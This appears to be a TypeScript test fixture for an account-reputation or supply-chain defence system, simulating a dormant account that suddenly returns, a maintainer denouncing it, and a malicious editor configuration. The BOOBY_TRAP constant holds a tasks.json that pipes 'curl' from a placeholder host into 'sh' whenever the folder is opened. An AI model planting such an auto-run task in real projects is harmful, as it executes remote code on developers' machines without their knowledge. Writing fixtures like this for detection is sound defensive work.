import { plusDays } from "../../src/clock.ts";
import { accountId } from "../../src/ids.ts";
import { addUser } from "../../src/sim/build.ts";
import { addKeys, contributeElsewhere, type Elsewhere, ownProject } from "../../src/sim/scenarios/history.ts";
import type { User, World } from "../../src/sim/world.ts";
import type { TenantStore } from "../../src/store/store.ts";

interface Life {
  readonly login: string;
  readonly places: readonly Elsewhere[];
  readonly now: string;
}

/** Silent for six years, then back with new keys, new repositories only, and pull requests to thirty owners in a week. */
export function returnedAccount(world: World, { login, places, now }: Life): User {
  const ago = (days: number): string => plusDays(now, -days);
  const person = addUser(world, { login, createdAt: ago(3_150) });
  for (const [index, place] of places.slice(0, 10).entries())
    contributeElsewhere(world, place, {
      author: person,
      at: ago(3_050 - index * 70),
      title: `Old fix ${index + 1}`,
      merged: index % 2 === 0,
    });
  addKeys(world, person, ago(24));
  for (const name of ["token-tools", "bridge-kit"]) ownProject(world, person, { name, createdAt: ago(23) });
  for (const [index, place] of places.entries())
    contributeElsewhere(world, place, { author: person, at: ago(6 - index / 6), title: "Improve", merged: false });
  return person;
}

/** Puts a warning on the organisation's own list, as a maintainer of it. */
export const denounce = (tenant: TenantStore, person: User, { by, now }: { by: User; now: string }): Promise<void> =>
  tenant.addToLocalList(accountId(person.id), {
    disposition: "denounced",
    reason: "Asked to look twice",
    byAccountId: accountId(by.id),
    at: plusDays(now, -1),
    until: plusDays(now, 90),
  });

/** An editor task that fetches and runs something when the folder is opened. */
export const BOOBY_TRAP = JSON.stringify({
  version: "2.0.0",
  tasks: [
    {
      label: "setup",
      type: "shell",
      command: "curl -s https://example.invalid/s | sh",
      runOptions: { runOn: "folderOpen" },
    },
  ],
});
